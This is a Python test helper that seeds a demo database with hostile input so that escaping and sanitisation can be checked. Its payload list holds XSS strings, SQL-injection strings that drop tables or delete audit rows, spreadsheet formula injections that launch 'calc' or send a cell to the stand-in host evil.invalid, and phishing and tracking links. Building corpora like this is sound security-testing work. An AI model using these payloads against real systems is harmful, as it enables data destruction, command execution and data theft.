"""Hostile input for the security tests: a payload corpus, the free-text columns of the schema,
and a demo database with a payload in every free-text cell, written through the gateway.

The free-text columns are found from the catalog, not listed by hand, so a table or column
added by a later migration is covered as soon as it exists: VARCHAR columns of editable
(or imported) tables, minus keys, ids, codes and enumerations (CHECK ... IN (...)), JSON,
geometry, usernames and bookkeeping stamps, and the phone / e-mail columns, which are
validated into a fixed format on entry (tests/test_hostile_input.py checks that refusal).
"""

from __future__ import annotations

import re
from datetime import date
from pathlib import Path

import duckdb

from queries.actor import SYSTEM
from queries.db import Database

TRAP = "window.__xss"
EVIL = "evil.invalid"     # a host that never resolves; any request to it is a leak

PAYLOADS: tuple[str, ...] = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror=\"window.__xss=2\">",
    "<img src=x onerror=alert(3)>",
    "<svg onload=window.__xss=4>",
    "<svg><script>window.__xss=5</script></svg>",
    "<iframe src=\"javascript:window.parent.__xss=6\"></iframe>",
    "javascript:window.__xss=7",
    "[click me](javascript:window.__xss=8)",
    "[reset your password](https://evil.invalid/phish)",
    "![pixel](https://evil.invalid/track.png)",
    "<a href=\"https://evil.invalid/plotly\">chart link</a> <b>bold</b>",
    "see https://evil.invalid/bare and www.evil.invalid/autolink",
    "<a href=\"javascript:window.__xss=9\">x</a>",
    "&lt;script&gt;window.__xss=10&lt;/script&gt;",
    "&#60;img src=x onerror=window.__xss=11&#62;",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "\"><script>window.__xss=12</script>",
    "'\"><body onload=window.__xss=13>",
    "<details open ontoggle=window.__xss=14>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "=HYPERLINK(\"https://evil.invalid/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'; drop table businesses; --",
    "1' or '1'='1",
    "Robert'); DELETE FROM audit_log WHERE ('1'='1",
    "\u202eexe.txt\u202c normal \u200b zero\u200dwidth \ufeff bom",
    "Ｓｃｒｉｐｔ＜ｓｃｒｉｐｔ＞window.__xss=15＜／ｓｃｒｉｐｔ＞",
    ":red[coloured] :material/warning: **bold** <b>html</b>",
    "`code` $$x^2$$ | table | cell |",
    "A" * 5000 + "<script>window.__xss=16</script>",
    "line one\nline two\r\n<script>window.__xss=17</script>",
)

_BOOKKEEPING = {"created_by", "updated_by", "deleted_by", "last_verified_by", "submitted_by", "by_user",
                "username", "password_hash", "unlocked_by", "end_reason", "period_label",
                "measure"}   # program_goals.measure names a figure or an outcome measure code
_SKIP_TABLES = {"schema_migrations", "audit_log", "settings", "login_failures", "login_locks",
                "auth_sessions", "offense_mappings", "crime_types", "outcome_measures"}
_IN_LIST = re.compile(r"\"?(\w+)\"?\s+in\s*\(", re.IGNORECASE)


def _enum_columns(cur, table: str) -> set[str]:
    found = set()
    for (expression,) in cur.execute(
            "select expression from duckdb_constraints() where schema_name = 'main' "
            "and table_name = $t and constraint_type = 'CHECK'", {"t": table}).fetchall():
        found.update(m.lower() for m in _IN_LIST.findall(expression or ""))
    return found


def _is_free_text(column: str, enums: set[str], keys: set[str]) -> bool:
    name = column.lower()
    return not (
        name in enums or name in keys or name in _BOOKKEEPING
        or name == "id" or name.endswith("_id") or name == "code" or name.endswith("_code")
        or name.endswith("_json") or name == "geometry" or name.endswith("_number")
        or "phone" in name or "email" in name or name == "status"
    )


def free_text_columns(cur) -> dict[str, list[str]]:
    """table -> its free-text VARCHAR columns, read from the migrated schema."""
    tables: dict[str, list[str]] = {}
    rows = cur.execute(
        "select table_name, column_name, data_type from duckdb_columns() "
        "where schema_name = 'main' and database_name = current_database() order by table_name, column_index"
    ).fetchall()
    columns: dict[str, list[tuple[str, str]]] = {}
    for table, column, data_type in rows:
        columns.setdefault(table, []).append((column, data_type))
    keys = {t: set(k) for t, k in cur.execute(
        "select table_name, constraint_column_names from duckdb_constraints() where schema_name = 'main' "
        "and constraint_type in ('PRIMARY KEY')").fetchall()}
    for table, cols in columns.items():
        names = {c for c, _ in cols}
        editable = "created_by" in names or "imported_at" in names or table == "concern_updates"
        if table in _SKIP_TABLES or not editable:
            continue
        enums = _enum_columns(cur, table)
        chosen = [c for c, t in cols if t == "VARCHAR" and _is_free_text(c, enums, keys.get(table, set()))]
        if chosen:
            tables[table] = chosen
    return tables


def cell_value(row_number: int, rows: int, column_number: int) -> str:
    """The payload(s) for one cell: each column carries every payload across its rows
    (tables with fewer rows than payloads get several payloads per cell)."""
    n = len(PAYLOADS)
    if rows >= n:
        return PAYLOADS[(row_number + column_number) % n]
    mine = [PAYLOADS[j] for j in range(n) if j % rows == row_number]
    return " ".join(mine)


# Big tables get payloads in their first rows only (enough for every payload, bounded work).
MAX_ROWS_PER_TABLE = 2 * len(PAYLOADS)


def _ensure_report_rows(db: Database) -> None:
    """The demo has no monthly report or evaluation yet: add one so their narrative columns exist."""
    with db.cursor() as cur:
        has_report = cur.execute("select count(*) from monthly_reports").fetchone()[0]
        has_evaluation = cur.execute("select count(*) from program_evaluations").fetchone()[0]
        program = cur.execute("select min(id) from programs").fetchone()[0]
    with db.unit_of_work(SYSTEM) as uow:
        if not has_report:
            uow.insert("monthly_reports", {"period_start": date(2026, 10, 1), "period_end": date(2026, 10, 31),
                                           "period_label": "October 2026"})
        if not has_evaluation:
            uow.insert("program_evaluations", {"program_id": program, "year": 2025})


def poison(db: Database) -> dict:
    """Write payloads into every free-text cell (bounded per table) through the unit of work.

    Returns {"written": {(table, id, column): value}, "columns": {table: [columns]}, "cells": n}.
    """
    _ensure_report_rows(db)
    with db.cursor() as cur:
        columns = free_text_columns(cur)
    written: dict[tuple[str, object, str], str] = {}
    for table, cols in columns.items():
        t = db.catalog.table(table)
        key = t.key[0] if len(t.key) == 1 else None
        if key is None:
            continue
        with db.cursor() as cur:
            ids = [r[0] for r in cur.execute(
                f'select "{key}" from main."{table}" order by "{key}" limit {MAX_ROWS_PER_TABLE}').fetchall()]
            versions = {}
            if t.versioned:
                versions = dict(cur.execute(f'select "{key}", version from main."{table}"').fetchall())
        unique = _unique_columns(db, table) & set(cols)
        if unique:
            # DuckDB refuses to change an indexed column of a row a foreign key references, so
            # these tables get new rows (copies of the first one) holding the payloads instead
            ids = _copies(db, table, key, ids[0], len(PAYLOADS)) if ids else []
            versions = {i: 1 for i in ids}
        _write_cells(db, table, ids, versions, cols, written)
    return {"written": written, "columns": columns, "cells": len(written)}


def _write_cells(db: Database, table: str, ids: list, versions: dict, cols: list[str], written: dict) -> None:
    mine = {}
    with db.unit_of_work(SYSTEM) as uow:
        for number, record in enumerate(ids):
            values = {}
            for c_number, column in enumerate(cols):
                value = cell_value(number, len(ids), c_number)
                if column == "name" and table in ("programs", "course_cohorts", "districts", "users"):
                    value = f"{value} #{record}"   # unique names stay unique
                values[column] = value
            if table == "concerns" and uow.row(table, record)["anonymous"]:
                values.pop("reporter_name", None)   # anonymous concerns keep no name (CHECK)
            uow.update(table, record, versions.get(record, 0), values)
            mine.update({(table, record, column): value for column, value in values.items()})
    written.update(mine)   # only what was committed


def _unique_columns(db: Database, table: str) -> set[str]:
    with db.cursor() as cur:
        rows = cur.execute("select constraint_column_names from duckdb_constraints() where schema_name = 'main' "
                           "and table_name = $t and constraint_type = 'UNIQUE'", {"t": table}).fetchall()
    return {c for (names,) in rows for c in names}


def _copies(db: Database, table: str, key: str, template_id, count: int) -> list:
    skip = {key, "version", "created_by", "created_at", "updated_by", "updated_at", "deleted_by", "deleted_at"}
    made = []
    with db.unit_of_work(SYSTEM) as uow:
        template = uow.row(table, template_id)
        for n in range(count):
            values = {c: v for c, v in template.items() if c not in skip}
            for column in _unique_columns(db, table):
                if isinstance(values.get(column), str):
                    values[column] = f"copy {n} of {values[column]}"
            made.append(uow.insert(table, values)[key])
    return made


def poisoned_copy(source: Path, target: Path) -> dict:
    import shutil

    shutil.copyfile(source, target)
    db = Database(target)
    try:
        return poison(db)
    finally:
        db.close()


def read_back(path: Path, written: dict) -> list[tuple]:
    """Cells whose stored text differs from what was written (should be none)."""
    con = duckdb.connect(str(path), read_only=True)
    wrong = []
    try:
        for (table, record, column), value in written.items():
            key = "id" if table != "roster_attendance" else None
            if key is None:
                continue
            stored = con.execute(f'select "{column}" from main."{table}" where id = $id', {"id": record}).fetchone()
            if stored is None or stored[0] != value:
                wrong.append((table, record, column))
    finally:
        con.close()
    return wrong
